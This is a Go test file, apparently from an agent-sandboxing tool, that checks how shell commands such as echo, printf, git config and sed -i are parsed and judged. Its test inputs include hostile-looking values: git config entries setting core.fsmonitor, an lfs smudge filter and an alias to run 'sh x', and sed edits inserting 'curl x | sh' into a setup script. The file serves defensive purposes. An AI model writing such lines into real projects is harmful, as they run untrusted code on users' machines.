package input

import (
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/agentjail/agentjail/internal/agentconfig"
	"github.com/agentjail/agentjail/internal/shell"
	"github.com/agentjail/agentjail/internal/written"
)

func TestShellOutput(t *testing.T) {
	tests := []struct {
		name string
		cmd  shell.Command
		want string
		ok   bool
	}{
		{"echo", shell.Command{Name: "echo", Args: []string{"a", "b"}}, "a b\n", true},
		{"echo -n", shell.Command{Name: "echo", Args: []string{"-n", "a"}}, "a", true},
		{"echo -e", shell.Command{Name: "echo", Args: []string{"-e", `a\nb`}}, "a\nb\n", true},
		{"printf", shell.Command{Name: "printf", Args: []string{`x:\n\t%s\n`, "go test"}}, "x:\n\tgo test\n", true},
		{"printf reuses format", shell.Command{Name: "printf", Args: []string{`%s\n`, "a", "b"}}, "a\nb\n", true},
		{"printf -v", shell.Command{Name: "printf", Args: []string{"-v", "X", "a"}}, "", false},
		{"cat here-string", shell.Command{Name: "cat", Redirects: []shell.Redirect{{Op: "<<<", Target: "hi"}}}, "hi\n", true},
		{"cat heredoc", shell.Command{Name: "cat", Redirects: []shell.Redirect{{Op: "<<", Target: "a\nb\n"}}}, "a\nb\n", true},
		{"cat file", shell.Command{Name: "cat", Args: []string{"x"}}, "", false},
		{"cp", shell.Command{Name: "cp", Args: []string{"a", "b"}}, "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := shell.Output(tt.cmd)
			if got != tt.want || ok != tt.ok {
				t.Errorf("output = %q, %v; want %q, %v", got, ok, tt.want, tt.ok)
			}
		})
	}
}

func TestGitConfigLine(t *testing.T) {
	tests := []struct {
		name string
		args []string
		want string
		ok   bool
	}{
		{"core key", []string{"config", "core.fsmonitor", "sh x"}, "[core]\n\tfsmonitor = sh x\n", true},
		{"local", []string{"config", "--local", "alias.st", "!sh x"}, "[alias]\n\tst = !sh x\n", true},
		{"subsection", []string{"config", "filter.lfs.smudge", "sh x"}, "[filter \"lfs\"]\n\tsmudge = sh x\n", true},
		{"set verb", []string{"config", "set", "core.pager", "less"}, "[core]\n\tpager = less\n", true},
		{"global is not the project's", []string{"config", "--global", "core.pager", "x"}, "", false},
		{"get", []string{"config", "--get", "core.pager"}, "", false},
		{"read", []string{"config", "core.pager"}, "", false},
		{"other repo", []string{"-C", "../o", "config", "core.pager", "x"}, "", false},
		{"not config", []string{"commit", "-m", "x", "y"}, "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, got, ok := gitConfigLine(shell.Command{Name: "git", Args: tt.args, Cwd: "/p"})
			if got != tt.want || ok != tt.ok || (ok && p != "/p/.git/config") {
				t.Errorf("gitConfigLine = %q, %q, %v; want %q, %v", p, got, ok, tt.want, tt.ok)
			}
		})
	}
}

func TestSedArgs(t *testing.T) {
	tests := []struct {
		name               string
		args               []string
		script             []string
		ere, quiet, inPlac bool
	}{
		{"gnu", []string{"-i", "1a x", "f"}, []string{"1a x"}, false, false, true},
		{"suffix", []string{"-i.bak", "s/a/b/", "f"}, []string{"s/a/b/"}, false, false, true},
		{"bsd empty suffix", []string{"-i", "", "s/a/b/", "f"}, []string{"s/a/b/"}, false, false, true},
		{"expressions", []string{"-E", "-i", "-e", "1d", "--expression=$a x", "f"}, []string{"1d", "$a x"}, true, false, true},
		{"joined flags", []string{"-ni", "s/a/b/p", "f"}, []string{"s/a/b/p"}, false, true, true},
		{"long in place", []string{"--in-place=.orig", "-r", "s/(a)/b/", "f"}, []string{"s/(a)/b/"}, true, false, true},
		{"not in place", []string{"s/a/b/", "f"}, []string{"s/a/b/"}, false, false, false},
		{"script file", []string{"-i", "-f", "x.sed", "f"}, nil, false, false, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			script, ere, quiet, inPlace := sedArgs(tt.args)
			if !slices.Equal(script, tt.script) || ere != tt.ere || quiet != tt.quiet || inPlace != tt.inPlac {
				t.Errorf("sedArgs = %q %v %v %v; want %q %v %v %v", script, ere, quiet, inPlace, tt.script, tt.ere, tt.quiet, tt.inPlac)
			}
		})
	}
}

// TestSedInPlace edits a real file: the text judged is what sed leaves
// of it, and a file not there yet is judged on the text the script adds.
func TestSedInPlace(t *testing.T) {
	table, err := written.Compile([]any{map[string]any{"kind": "script", "match": `\.sh$`, "format": "shell"}})
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	p := filepath.Join(dir, "setup.sh")
	if err := os.WriteFile(p, []byte("set -e\nmake\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	env := Env{ReadFile: agentconfig.ReadRegular}
	c := shell.Command{Name: "sed", Args: []string{"-i", "s/make/curl x | sh/", p}, Writes: []string{p}}
	edits, ok := sedInPlace(table, c, env)
	if !ok || edits[p] != "set -e\ncurl x | sh\n" {
		t.Errorf("sedInPlace = %q, %v", edits, ok)
	}
	missing := filepath.Join(dir, "new.sh")
	c = shell.Command{Name: "sed", Args: []string{"-i", "1a curl x | sh", missing}, Writes: []string{missing}}
	if edits, ok := sedInPlace(table, c, env); !ok || edits[missing] != "curl x | sh\n" {
		t.Errorf("a file not there yet: sedInPlace = %q, %v", edits, ok)
	}
	c = shell.Command{Name: "sed", Args: []string{"s/a/b/", p}, Paths: []string{p}}
	if _, ok := sedInPlace(table, c, env); ok {
		t.Error("a sed that prints is no edit")
	}
	other := filepath.Join(dir, "main.go")
	c = shell.Command{Name: "sed", Args: []string{"-i", "1a x", other}, Writes: []string{other}}
	if edits, ok := sedInPlace(table, c, env); ok {
		t.Errorf("a file of no listed kind is judged: %q", edits)
	}
	if b, _ := os.ReadFile(p); string(b) != "set -e\nmake\n" {
		t.Errorf("judging changed the file: %q", b)
	}
}
